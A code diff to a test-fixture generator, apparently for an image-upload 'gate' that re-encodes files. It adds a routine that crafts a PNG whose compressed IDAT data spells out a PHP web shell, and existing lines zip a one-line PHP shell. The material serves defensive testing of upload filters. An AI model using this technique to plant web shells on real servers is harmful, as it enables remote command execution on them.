@@ -13,6 +13,10 @@ sender has even when every byte is re-encoded:
                    one row chosen so that libpng's adaptive filter keeps it
                    unfiltered: the rebuilt IDAT holds the row's bytes as
                    sent, here a PHP web shell or a working ZIP archive.
+  idat_crafted.png a row whose compressed IDAT spells the classic shell:
+                   zlib codes a short literal-only block with the fixed
+                   Huffman code, so the residuals are chosen as the literals
+                   whose codes are the shell's bits.
   idat_both.png    as above, plus a second row whose Paeth residuals (the
                    filter the gate's second encoding uses) spell the shell:
                    both encodings are hit, so the gate rejects.
@@ -158,6 +162,97 @@ def small_zip():
     with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
         z.writestr("a.php", b"<?php system($_GET[0]);")
     return b.getvalue()
+
+
+# The crafted route: a row whose *compressed* IDAT spells the shell.  For a
+# short row of literals zlib picks the fixed Huffman code, whose literal
+# codes (8 bits for 0..143, 9 bits for 144..255, sent most significant bit
+# first) cover almost every bit pattern: read the shell's bits as such
+# codes and they name the literals that make zlib write it.  The row is
+# filtered with Sub (a first residual of 128, then small steps, keeps the
+# pixels near 128, so libpng's heuristic prefers Sub by far); its residuals
+# are those literals.  No three literals repeat, so LZ77 finds no match,
+# and the block stays short so the fixed code beats a dynamic one.
+
+def code_bits(v):
+    c, n = (0x30 + v, 8) if v < 144 else (0x190 + v - 144, 9)
+    return [(c >> (n - 1 - i)) & 1 for i in range(n)]
+
+
+def parse_codes(bits, q):
+    """bits[q:] as fixed-Huffman literal codes (the last may run past the
+    end, its tail free); None when a length or end-of-block code appears."""
+    lits = []
+    while q < len(bits):
+        rest = len(bits) - q
+        if rest >= 9:
+            v8 = int("".join(map(str, bits[q:q + 8])), 2)
+            v9 = int("".join(map(str, bits[q:q + 9])), 2)
+            if 0x30 <= v8 <= 0xBF:
+                lits.append(v8 - 0x30)
+                q += 8
+            elif v9 >= 0x190:
+                lits.append(144 + v9 - 0x190)
+                q += 9
+            else:
+                return None
+            continue
+        tail = [v for v in range(256) if code_bits(v)[:rest] == bits[q:]]
+        if not tail:
+            return None
+        lits.append(min(tail, key=mag))
+        q = len(bits)
+    return lits
+
+
+def crafted_residuals(payload, rng):
+    bits = list(lsb_bits(payload))
+    for a in range(1, 9):  # bits of the payload a straddling code covers
+        lits = parse_codes(bits, a)
+        if lits is None:
+            continue
+        heads = sorted((v for v in range(256)
+                        if len(code_bits(v)) > a and code_bits(v)[-a:] == bits[:a]), key=mag)
+        for h in heads[:6]:
+            lead = len(code_bits(h)) - a
+            for _ in range(300):
+                pre = [rng.randrange(0, 16) for _ in range(rng.randrange(10, 20))]
+                for k9 in range(8):  # 9-bit literals shift the alignment
+                    cand = [rng.randrange(241, 256) for _ in range(k9)] + pre[k9:]
+                    # 3 header bits, filter byte 1 and residual 128: 8 bits each
+                    if (3 + 16 + sum(len(code_bits(v)) for v in cand) + lead) % 8 == 0:
+                        break
+                else:
+                    continue
+                rng.shuffle(cand)
+                post = [rng.randrange(0, 16) for _ in range(rng.randrange(10, 20))]
+                full = [1, 128] + cand + [h] + lits + post
+                grams = [tuple(full[i:i + 3]) for i in range(len(full) - 2)]
+                pixels, acc = [], 0
+                for r in full[1:]:
+                    acc = (acc + r) & 0xFF
+                    pixels.append(acc)
+                if (len(set(grams)) == len(grams) and sum(v >= 144 for v in full) < 14 and
+                        libpng_choice(pixels, [0] * len(pixels)) == 1):
+                    return full, pixels
+    return None
+
+
+def idat_crafted(seed):
+    """The classic "<?=$_GET[0]($_POST[1]);?>" in a 1-row grey PNG whose
+    IDAT, compressed as libpng and zlib (level 5, Z_FILTERED) compress it,
+    holds the shell; the input is compressed the same way."""
+    rng = random.Random(seed)
+    r = crafted_residuals(SHELL, rng)
+    if r is None:
+        raise SystemExit("gen_gate: no crafted IDAT row found")
+    full, pixels = r
+    co = zlib.compressobj(5, zlib.DEFLATED, 15, 8, zlib.Z_FILTERED)
+    idat = co.compress(bytes(full)) + co.flush()
+    assert SHELL in idat
+    ihdr = struct.pack(">IIBBBBB", len(pixels), 1, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) +
+            chunk(b"IEND", b""))
 
 
 # ------------------------------------------------------------------- GIF
@@ -308,6 +403,7 @@ def main():
         "idat_stored_php.png": idat_stored(SHELL, 1),
         "idat_stored_zip.png": idat_stored(small_zip(), 2),
         "idat_both.png": idat_stored(SHELL, 3, paeth_payload=SHELL),
+        "idat_crafted.png": idat_crafted(6),
         "lzw_script.gif": lzw_payload(script_variants(), 4),
         "lzw_php.gif": lzw_payload(php_variants(), 5),
     }
